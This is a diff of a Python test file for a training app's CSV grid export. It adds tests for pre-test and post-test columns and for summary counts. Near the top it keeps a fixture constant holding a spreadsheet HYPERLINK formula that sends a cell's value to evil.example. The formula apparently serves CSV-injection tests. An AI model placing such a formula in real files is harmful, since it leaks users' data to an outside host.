@@ -14,7 +14,7 @@ from tests.services.helpers import read_module, take_quiz
 from trainer.cli import main
 from trainer.services import accounts, grid_export, reports
 from trainer.services.csv_safe import safe_cell
-from trainer.services.learner_grid import learner_grid
+from trainer.services.learner_grid import course_parts, learner_grid
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for your certificate")'
 TODAY = date.today()
@@ -118,7 +118,8 @@ def test_trainer_report_csv_is_the_apps_csv(grid, db_url, catalog, demo_root, tm
     args = ["--db", db_url, "--course", str(demo_root / "curriculum")]
     args += ["--quizzes", str(demo_root / "quizzes")]
     app = io.StringIO()
-    grid_export.write_grid_csv(app, grid, titles(catalog), due=None, today=TODAY)
+    parts = course_parts(catalog.course)  # the demo course has no evaluation
+    grid_export.write_grid_csv(app, grid, titles(catalog), due=None, today=TODAY, parts=parts)
 
     assert main([*args, "report"]) == 0
     out = capsys.readouterr().out
@@ -154,3 +155,39 @@ def test_a_total_adds_up_to_the_minutes_its_rows_show() -> None:
         for n, seconds in enumerate((90, 90, 119))
     ]  # each row shows 1 min; the seconds add up to 4 min 59 s
     assert grid_export.total_minutes(rows) == 3
+
+
+def test_the_pre_test_and_post_test_columns_hold_the_grids_words(grid, catalog) -> None:
+    parts = course_parts(catalog.course)
+    assert parts == ("pretest", "posttest")  # the demo course has no evaluation
+    handle = io.StringIO()
+    grid_export.write_grid_csv(handle, grid, titles(catalog), due=None, today=TODAY, parts=parts)
+    header, *rows = list(csv.reader(io.StringIO(handle.getvalue())))
+    assert header == grid_export.csv_headers(titles(catalog), parts)
+    assert header[7:10] == ["Pre-test: status", "Pre-test: baseline", "Pre-test: baseline %"]
+    assert header[-4:] == [
+        "Post-test: status", "Post-test: best score", "Post-test: best %", "Post-test: passed on",
+    ]  # fmt: skip
+    assert not any(h.startswith("Course evaluation") for h in header)
+    ana = dict(zip(header, rows[[r[0] for r in rows].index("Ana Ruiz")], strict=True))
+    ana_row = next(r for r in grid if r.name == "Ana Ruiz")
+    assert ana["Pre-test: status"] == "Baseline taken"
+    assert ana["Pre-test: baseline"] == ana_row.pretest.score_words
+    assert ana["Pre-test: baseline"].startswith("Baseline: ") and ana["Pre-test: baseline %"]
+    assert ana["Post-test: status"] == "Passed"
+    assert ana["Post-test: best score"] == ana_row.posttest.score_words
+    assert int(ana["Post-test: best %"]) == 100 and ana["Post-test: passed on"] == str(TODAY)
+    for values in rows:  # the others: tests not taken, in words, with blank numbers
+        data = dict(zip(header, values, strict=True))
+        if data["Learner"] != "Ana Ruiz":
+            assert [data["Pre-test: status"], data["Pre-test: baseline %"]] == ["Not taken", ""]
+            assert [data["Post-test: status"], data["Post-test: passed on"]] == ["Not taken", ""]
+
+
+def test_the_summary_counts_the_tests_and_evaluations(grid, catalog) -> None:
+    text = grid_export.grid_summary(
+        grid, titles(catalog), file_name="g.csv", stamp="now", who="Sam", filters="",
+        due=None, today=TODAY, parts=course_parts(catalog.course),
+    )  # fmt: skip
+    assert "  Pre-test taken: 1\n" in text and "  Post-test passed: 1\n" in text
+    assert "evaluation" not in text.lower()
